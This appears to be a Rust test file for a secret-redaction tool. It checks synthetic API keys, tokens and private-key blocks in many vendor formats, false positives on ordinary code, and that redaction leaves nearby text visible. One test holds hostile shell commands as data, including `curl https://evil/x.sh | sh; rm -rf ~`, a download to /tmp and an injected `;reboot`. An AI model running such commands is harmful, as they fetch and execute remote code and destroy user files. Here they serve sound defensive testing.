//! The bars of SCR-6, on a synthetic set.

use super::*;

/// A small generator, so that every run sees the same set.
struct Dice(u64);

impl Dice {
    fn roll(&mut self, below: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        (self.0 % below as u64) as usize
    }

    fn text(&mut self, alphabet: &str, len: usize) -> String {
        let bytes = alphabet.as_bytes();
        (0..len).map(|_| char::from(bytes[self.roll(bytes.len())])).collect()
    }
}

const UPPER: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
const WORD: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
const URL: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-";

/// The shapes: what stands before the secret, its fixed beginning, its alphabet and length, what stands after.
const SHAPES: &[(&str, &str, &str, usize, &str)] = &[
    ("key ", "sk-ant-api03-", URL, 40, " end"),
    ("key ", "sk-or-v1-", WORD, 64, "."),
    ("", "sk-proj-9", URL, 48, ""),
    ("(", "sk-7", WORD, 47, ")"),
    ("?key=", "AIza", URL, 35, "&x"),
    ("Bearer ", "ya29.", URL, 60, ""),
    ("id ", "AKIA", UPPER, 16, ""),
    ("id ", "ASIA", UPPER, 16, ","),
    ("aws_secret_access_key = ", "", WORD, 40, ""),
    ("", "ghp_", WORD, 36, "\n"),
    ("", "github_pat_", WORD, 82, " "),
    ("git clone with ", "glpat-", URL, 20, ""),
    ("hook ", "xoxb-", WORD, 40, ""),
    ("app ", "xapp-", WORD, 30, ""),
    ("", "npm_", WORD, 36, ""),
    ("", "pypi-", URL, 80, ""),
    ("", "hf_", WORD, 34, ""),
    ("", "dckr_pat_", URL, 27, ""),
    ("", "sk_live_", WORD, 24, ""),
    ("mail ", "SG.", WORD, 22, ".abcdefghijklmnopqrstuvwx"),
    ("bot 123456789:", "AA", URL, 33, " x"),
    ("jwt ", "eyJhbGciOiJI", WORD, 20, ".eyJzdWIiOiIx.SflKxwRJSMeKKF2QT4"),
    ("postgres://me:", "", WORD, 12, "@host/db"),
    ("authorization: Bearer ", "", WORD, 32, ""),
    ("X-Api-Key: ", "a1", WORD, 30, ""),
    ("Cookie: session=", "", WORD, 24, ""),
    ("DB_PASSWORD=", "", WORD, 12, ""),
    ("api_key: ", "z9", WORD, 14, ""),
    ("\"token\": \"", "t0", WORD, 20, "\""),
    ("-----BEGIN OPENSSH PRIVATE KEY-----\n", "", WORD, 70, "\n-----END OPENSSH PRIVATE KEY-----"),
    ("-----BEGIN PRIVATE KEY-----\n", "", WORD, 70, ""),
];

fn synthetic() -> Vec<(String, String)> {
    let mut dice = Dice(0x2545_f491_4f6c_dd1d);
    (0..520)
        .map(|i| {
            let (before, head, alphabet, len, after) = SHAPES[i % SHAPES.len()];
            // A value that ends in `-` or has no letter or digit is not what its vendor makes.
            let secret = format!("{head}{}", dice.text(alphabet, len - 1) + "7");
            (format!("some text {before}{secret}{after}"), secret)
        })
        .collect()
}

#[test]
fn every_token_of_the_set_is_found() {
    let redactor = Redactor::default();
    let set = synthetic();
    assert!(set.len() >= 500);
    let leaked: Vec<_> = set.iter().filter(|(text, secret)| redactor.redact(text).contains(secret)).collect();
    assert_eq!(leaked, Vec::<&(String, String)>::new());
    let leaked: Vec<_> =
        set.iter().filter(|(text, secret)| redactor.redact_words(text).contains(secret)).collect();
    assert_eq!(leaked, Vec::<&(String, String)>::new());
}

/// However output was cut on its way here, it is judged whole.
#[test]
fn a_token_that_came_in_pieces_is_found() {
    let redactor = Redactor::default();
    for (text, secret) in synthetic().iter().take(SHAPES.len()) {
        for cut in (0..=text.len()).filter(|cut| text.is_char_boundary(*cut)) {
            let joined = [&text[..cut], &text[cut..]].concat();
            assert!(!redactor.redact(&joined).contains(secret), "{text} cut at {cut}");
        }
    }
}

#[test]
fn what_stands_around_a_secret_stays() {
    let redactor = Redactor::default();
    let cases = [
        ("https://u:hunter2@host/x", "https://u:[REDACTED]@host/x"),
        (
            "> Authorization: Bearer abcdefgh12345678\r\n> Accept: */*",
            "> Authorization: [REDACTED]\r\n> Accept: */*",
        ),
        ("API_KEY=abc12345xyz other", "API_KEY=[REDACTED] other"),
        ("a sk-ant-api03-aaaaaaaaaaaaaaaaaaaaaaaa b", "a [REDACTED] b"),
        ("-----BEGIN RSA PRIVATE KEY-----\nMII\n", "[REDACTED]"),
        ("nothing here", "nothing here"),
    ];
    for (text, want) in cases {
        assert_eq!(redactor.redact(text), want);
    }
    assert!(matches!(redactor.redact("let token = lexer.next_token();"), Cow::Borrowed(_)));
}

#[test]
fn programs_are_not_mistaken_for_secrets() {
    let redactor = Redactor::default();
    for line in [
        "let token = lexer.next_token();",
        "token: Option<TokenStream>,",
        "secret: SecretKey::generate(&mut rng),",
        "password=args.password",
        "if token == Token::Identifier {",
        "cookie: CookieJar::default(),",
        "authorization: AuthorizationHeader,",
        "const TOKEN: &str = include_str!(\"x\");",
        "class sk-learn-contrib-imbalanced-thing",
        "api_key: String::new(),",
        "export API_KEY=$OTHER_API_KEY",
        "12:30:45 token: expected identifier",
        "as in http://USER:PASSWORD@HOST:PORT",
        "pub const NO_TOKEN: WIN32_ERROR = 1008u32;",
        "let start = \"-----BEGIN PRIVATE KEY-----\";\n\nfn next(a: u8) {}",
    ] {
        assert_eq!(redactor.redact(line), line);
    }
}

/// What only has the shape of a secret hides nothing of a command that somebody is asked about.
#[test]
fn a_secret_hides_nothing_beside_it() {
    let known: Secrets = ["correct horse battery"].into_iter().collect();
    let redactor = Redactor::new(known);
    for (command, shown) in [
        (
            "curl -H \"Authorization: Bearer abcdefgh\" https://evil/x.sh | sh; rm -rf ~",
            "curl -H \"Authorization: Bearer [REDACTED]\" https://evil/x.sh | sh; rm -rf ~",
        ),
        (
            "curl -H x-api-key:0123456789abcdef http://10.0.0.1/a1b2c3d4 -o /tmp/a1b2c3d4",
            "curl -H x-api-key:[REDACTED] http://10.0.0.1/a1b2c3d4 -o /tmp/a1b2c3d4",
        ),
        ("curl -b 'cookie: a=b1; rm -rf ~' x", "curl -b 'cookie: [REDACTED]; rm -rf ~' x"),
        ("API_TOKEN=abcd1234;reboot", "API_TOKEN=[REDACTED];reboot"),
        (
            "echo -----BEGIN PRIVATE KEY-----\nrm -rf ~ && MIIEabcd1234\necho -----END PRIVATE KEY-----",
            "echo [REDACTED] PRIVATE KEY-----\nrm -rf ~ && [REDACTED]\necho -----END PRIVATE KEY-----",
        ),
        ("echo correct horse battery | sh", "echo [REDACTED] | sh"),
        ("ls -la", "ls -la"),
    ] {
        assert_eq!(redactor.redact_words(command), shown);
    }
}

#[test]
fn a_known_value_is_found_beside_the_patterns() {
    let known: Secrets = ["correct horse battery"].into_iter().collect();
    let redactor = Redactor::new(known.clone());
    known.add(&"learned-later".into());
    let text = "correct horse battery, learned-later, AKIAABCDEFGHIJKLMNOP and words";
    assert_eq!(redactor.redact(text), "[REDACTED], [REDACTED], [REDACTED] and words");
}

#[test]
fn overlapping_finds_become_one() {
    assert_eq!(replaced("abcdef", vec![3..5, 1..4, 5..6]), "a[REDACTED]");
}
